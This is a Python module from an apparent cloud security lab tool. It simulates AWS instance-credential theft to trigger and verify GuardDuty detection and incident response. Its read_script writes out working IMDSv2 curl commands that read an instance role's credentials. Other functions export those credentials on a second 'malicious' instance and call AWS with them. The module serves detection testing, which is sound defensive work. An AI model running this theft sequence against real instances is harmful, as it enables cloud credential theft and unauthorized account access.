"""Instance credentials stolen and used elsewhere, as a scenario's trigger and verify run it
(SSM RunCommand on both instances):

1. the compromised instance reads its role's credentials from the metadata service (IMDSv2:
   a token, the role's name, then its credentials), as any process on it could;
2. the malicious instance, whose Elastic IP is on the threat list, calls AWS with them:
   who am I (sts get-caller-identity), then what its application may read (ec2
   describe-instances).

The credentials pass through gdlab's memory only, never its state, logs or output. In the
account they sit where a thief's loot would: in the output of the first command, which SSM
keeps (so verify reads them back from there to try them again), and in the parameters of the
second. They are the lab role's, which can do little and whose sessions the responder
revokes; teardown deletes the role."""

from __future__ import annotations

import json
import re
import time
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from gdlab.errors import GdlabError
from gdlab.lab.awsutil import error_code
from gdlab.lab.steps import LabContext
from gdlab.lab.trigger import LabNotReady, run_script, wait_until_managed

if TYPE_CHECKING:
    from gdlab.lab.verify import Check

IMDS = "http://169.254.169.254/latest"
READ_COMMENT = "gdlab {lab}: read the instance role's credentials (IMDSv2)"
USE_COMMENT = "gdlab {lab}: use the stolen credentials from the malicious instance"
# What the thief runs. The first is allowed to the role (its application reads instances), so
# before the response it works and after it the revocation refuses it; it goes first, since
# the finding its call raises may be answered before the next call (in seconds locally). The
# second always works: no policy can deny GetCallerIdentity.
USE = "aws ec2 describe-instances"
WHO_AM_I = "aws sts get-caller-identity"
# AWS's shapes, checked before anything read from an instance goes into a command line.
_SESSION_KEY = re.compile(r"ASIA[A-Z0-9]{16}")
_SECRET = re.compile(r"[A-Za-z0-9+/]{40}")
_TOKEN = re.compile(r"[A-Za-z0-9+/=]{16,8192}")
_ROLE = re.compile(r"[\w+=,.@-]{1,64}")
UNDELIVERED = {"DeliveryTimedOut", "Undeliverable", "Terminated", "InvalidPlatform", "Cancelled"}


@dataclass(frozen=True)
class StolenSession:
    """Credentials read from the instance's metadata service. repr never shows the secrets."""

    role: str
    access_key_id: str
    secret_access_key: str
    token: str
    issued: str  # LastUpdated: when IMDS got them from STS
    expires: str
    command_id: str  # the SSM command whose output holds them

    def __repr__(self) -> str:
        return f"StolenSession(role={self.role!r}, access_key_id={self.access_key_id!r})"

    def exports(self) -> list[str]:
        return [f"export AWS_ACCESS_KEY_ID='{self.access_key_id}'",
                f"export AWS_SECRET_ACCESS_KEY='{self.secret_access_key}'",
                f"export AWS_SESSION_TOKEN='{self.token}'"]


class TheftFailed(GdlabError):
    """The attack's first half did not give credentials."""


def read_script() -> list[str]:
    header = "-H 'X-aws-ec2-metadata-token: '\"$TOKEN\""
    return [
        "set -e",
        f"TOKEN=$(curl -sSf -X PUT {IMDS}/api/token "
        "-H 'X-aws-ec2-metadata-token-ttl-seconds: 60')",
        f"ROLE=$(curl -sSf {header} {IMDS}/meta-data/iam/security-credentials/)",
        'echo "$ROLE"',
        f"curl -sSf {header} {IMDS}/meta-data/iam/security-credentials/\"$ROLE\"",
    ]


def parse_loot(output: str, command_id: str) -> StolenSession | None:
    """The role's name (first line) and its credentials (the JSON after it), if well formed."""
    role, _, rest = output.strip().partition("\n")
    try:
        data = json.loads(rest)
    except ValueError:
        return None
    if not isinstance(data, dict) or data.get("Code") != "Success":
        return None
    fields = [data.get(k) for k in ("AccessKeyId", "SecretAccessKey", "Token", "LastUpdated",
                                    "Expiration")]
    if not all(isinstance(f, str) for f in fields):
        return None
    key, secret, token, issued, expires = fields
    if not (_ROLE.fullmatch(role.strip()) and _SESSION_KEY.fullmatch(key)
            and _SECRET.fullmatch(secret) and _TOKEN.fullmatch(token)):
        return None
    return StolenSession(role.strip(), key, secret, token, issued, expires, command_id)


def _deadline(ctx: LabContext) -> float:
    return 30.0 if ctx.cloud.is_local else 600.0


def _detail(invocation: dict[str, Any]) -> str:
    status = invocation.get("Status", "Pending")
    return str(invocation.get("StatusDetails") or status).replace(" ", "")


def steal(ctx: LabContext) -> tuple[StolenSession | None, dict[str, Any], str]:
    """Run step 1 on the compromised instance: (the session or None, invocation, command id)."""
    instance = ctx.state.live("instance-compromised")
    if not instance:
        raise LabNotReady(f"lab {ctx.lab} has no compromised instance",
                          f"run 'gdlab setup --lab {ctx.lab}' first")
    wait_until_managed(ctx, instance.id, _deadline(ctx))
    command_id, invocation = run_script(ctx, instance.id, read_script(),
                                        READ_COMMENT.format(lab=ctx.lab), _deadline(ctx))
    loot = None
    if invocation.get("Status") == "Success":
        loot = parse_loot(invocation.get("StandardOutputContent", ""), command_id)
    return loot, invocation, command_id


def use(ctx: LabContext, session: StolenSession, commands: list[str],
        deadline_seconds: float | None = None) -> tuple[str, dict[str, Any]]:
    """Run `commands` on the malicious instance with the stolen session in its environment."""
    instance = ctx.state.live("instance-malicious")
    if not instance:
        raise LabNotReady(f"lab {ctx.lab} has no malicious instance",
                          f"run 'gdlab setup --lab {ctx.lab}' first")
    deadline = _deadline(ctx) if deadline_seconds is None else deadline_seconds
    wait_until_managed(ctx, instance.id, deadline)
    return run_script(ctx, instance.id, [*session.exports(), *commands],
                      USE_COMMENT.format(lab=ctx.lab), deadline)


def last_stolen(ctx: LabContext) -> StolenSession | None:
    """The session the latest successful theft read, from SSM's history of the compromised
    instance's commands (newest first), or None."""
    instance = ctx.state.live("instance-compromised")
    if not instance:
        return None
    ssm = ctx.cloud.client("ssm")
    comment = READ_COMMENT.format(lab=ctx.lab)
    kwargs: dict[str, Any] = {"InstanceId": instance.id, "MaxResults": 50}
    candidates: list[dict[str, Any]] = []
    while True:
        page = ssm.list_commands(**kwargs)
        candidates += [c for c in page.get("Commands", []) if c.get("Comment") == comment
                       and c.get("Status") == "Success"]
        if not page.get("NextToken"):
            break
        kwargs["NextToken"] = page["NextToken"]
    from botocore.exceptions import ClientError

    for command in sorted(candidates, key=lambda c: str(c.get("RequestedDateTime")),
                          reverse=True):
        try:
            invocation = ssm.get_command_invocation(CommandId=command["CommandId"],
                                                    InstanceId=instance.id)
        except ClientError as exc:
            if error_code(exc) == "InvocationDoesNotExist":
                continue
            raise
        loot = parse_loot(invocation.get("StandardOutputContent", ""), command["CommandId"])
        if loot is not None:
            return loot
    return None


@dataclass
class TheftResult:
    """What `gdlab trigger` did: both halves of the attack (TriggerResult). No secret in it."""

    instance_id: str
    attacker_id: str
    target_ip: str  # the malicious instance's Elastic IP, where the calls come from
    read_command_id: str
    use_command_id: str
    role: str | None
    access_key_id: str | None
    status: str
    detail: str
    exit_code: int | None
    identity_arn: str | None
    instances_seen: int | None
    error_output: str
    seconds: float

    @property
    def delivered(self) -> bool:
        return bool(self.use_command_id) and self.detail not in UNDELIVERED \
            and self.status not in ("Pending", "InProgress")

    @property
    def set_off(self) -> bool:
        """The stolen session reached AWS from the malicious address (GuardDuty sees it)."""
        return self.delivered and self.identity_arn is not None

    def to_dict(self) -> dict[str, Any]:
        return {**self.__dict__, "delivered": self.delivered, "set_off": self.set_off}

    def already_happened(self) -> str | None:
        return None  # a new theft takes new credentials: the incident can happen again

    def headline(self) -> str:
        return (f"{self.instance_id}'s role credentials read from IMDSv2 (command "
                f"{self.read_command_id}), used from {self.attacker_id} at {self.target_ip} "
                f"(command {self.use_command_id or '-'})")

    def output_text(self) -> str:
        lines = []
        if self.instances_seen is not None:
            lines.append(f"{USE}: {self.instances_seen} instance(s) seen with the stolen role")
        if self.identity_arn:
            lines.append(f"{WHO_AM_I}: {self.identity_arn} (access key {self.access_key_id})")
        if self.error_output.strip():
            lines.append(self.error_output.strip())
        return "\n".join(lines)

    def failure(self) -> tuple[str, str] | None:
        if self.set_off:
            return None
        if self.role is None:
            return (f"the compromised instance gave no credentials ({self.detail})",
                    "check that its instance profile has a role and IMDSv2 is enabled, then "
                    "retry 'gdlab trigger'")
        return (f"the malicious instance could not use the credentials ({self.detail})",
                "check 'aws ssm describe-instance-information' for it and retry "
                "'gdlab trigger'")


def cli_error(stderr: str) -> str:
    """The AWS CLI's "An error occurred (Code) ..." line, short, else stderr's last line."""
    lines = [line.strip() for line in stderr.splitlines() if line.strip()]
    said = next((line for line in lines if line.startswith("An error occurred")),
                lines[-1] if lines else "")
    # EC2 appends an encoded authorization message: long, and only for sts decode.
    said = said.split(" Encoded authorization failure message:")[0]
    return said[:500]


# IAM is eventually consistent: a new deny or a disabled key is enforced within seconds,
# rarely a minute; on AWS a call that still works is tried again until then.
PROPAGATION_SECONDS = 60.0


def check_refused_again(ctx: LabContext, name: str, title: str, credentials: Any,
                        command: str, refused_codes: tuple[str, ...]) -> Check:
    """The malicious instance runs `command` with the stolen `credentials` (anything with
    exports()) once more: pass when AWS refuses it with one of `refused_codes`."""
    from gdlab.lab.verify import Check

    started = time.monotonic()
    while True:
        try:
            _id, used = use(ctx, credentials, [command])
        except GdlabError as exc:
            return Check(name, title, "inconclusive",
                         f"the malicious instance could not try it: {exc}")
        code, errors = used.get("ResponseCode"), used.get("StandardErrorContent", "")
        if used.get("Status") not in ("Success", "Failed"):
            return Check(name, title, "inconclusive",
                         f"the attempt did not run ({used.get('Status')})")
        if code != 0:
            break
        if ctx.cloud.is_local or time.monotonic() - started > PROPAGATION_SECONDS:
            return Check(name, title, "fail", f"{command} with {credentials.access_key_id} "
                                              "from the malicious instance still succeeds")
        time.sleep(10)  # the change is new: IAM may not enforce it everywhere yet
    said = cli_error(errors) or f"exit code {code}"
    if "ExpiredToken" in errors:
        return Check(name, title, "inconclusive",
                     f"the session expired on its own before it could be refused: {said}")
    refused = any(word in errors for word in refused_codes)
    return Check(name, title, "pass" if refused else "fail",
                 f"{command} with {credentials.access_key_id}: {said}")


def _json_blocks(text: str) -> list[Any]:
    """The JSON documents the AWS CLI printed one after another."""
    decoder, found, at = json.JSONDecoder(), [], 0
    text = text.strip()
    while at < len(text):
        try:
            value, end = decoder.raw_decode(text, at)
        except ValueError:
            break
        found.append(value)
        at = end
        while at < len(text) and text[at].isspace():
            at += 1
    return found


def trigger(ctx: LabContext) -> TheftResult:
    """Both halves of the attack, and the lab's journal told what happened (never the keys)."""
    started = time.monotonic()
    loot, invocation, read_id = steal(ctx)
    attacker = ctx.state.live("instance-malicious")
    eip = ctx.attr("eip", "public_ip") or ""
    result = TheftResult(
        instance_id=ctx.id_of("instance-compromised"), attacker_id=attacker.id if attacker
        else "", target_ip=eip, read_command_id=read_id, use_command_id="", role=None,
        access_key_id=None, status=invocation.get("Status", "Pending"),
        detail=_detail(invocation), exit_code=None, identity_arn=None, instances_seen=None,
        error_output=invocation.get("StandardErrorContent", "")[-2000:], seconds=0.0)
    if loot is not None:
        result.role, result.access_key_id = loot.role, loot.access_key_id
        use_id, used = use(ctx, loot, [f"{USE} --region {ctx.cloud.region}", WHO_AM_I])
        code = used.get("ResponseCode")
        result.use_command_id, result.status = use_id, used.get("Status", "Pending")
        result.detail = _detail(used)
        result.exit_code = code if isinstance(code, int) and code >= 0 else None
        result.error_output = cli_error(used.get("StandardErrorContent", ""))
        blocks = _json_blocks(used.get("StandardOutputContent", ""))
        identity = next((b for b in blocks if isinstance(b, dict) and "Arn" in b), None)
        described = next((b for b in blocks if isinstance(b, dict) and "Reservations" in b),
                         None)
        result.identity_arn = identity.get("Arn") if identity else None
        if described is not None:
            result.instances_seen = sum(len(r.get("Instances", []))
                                        for r in described["Reservations"])
    result.seconds = time.monotonic() - started
    advance = result.set_off and ctx.state.phase in ("ready", "triggered")
    ctx.state.event(
        f"triggered: credentials of {result.instance_id} ({result.role or 'no role'}, key "
        f"{result.access_key_id or '-'}) used from {eip} -> {result.detail} (commands "
        f"{read_id}, {result.use_command_id or '-'})",
        phase="triggered" if advance else None,
        kind="info" if result.set_off else "error",
    )
    return result
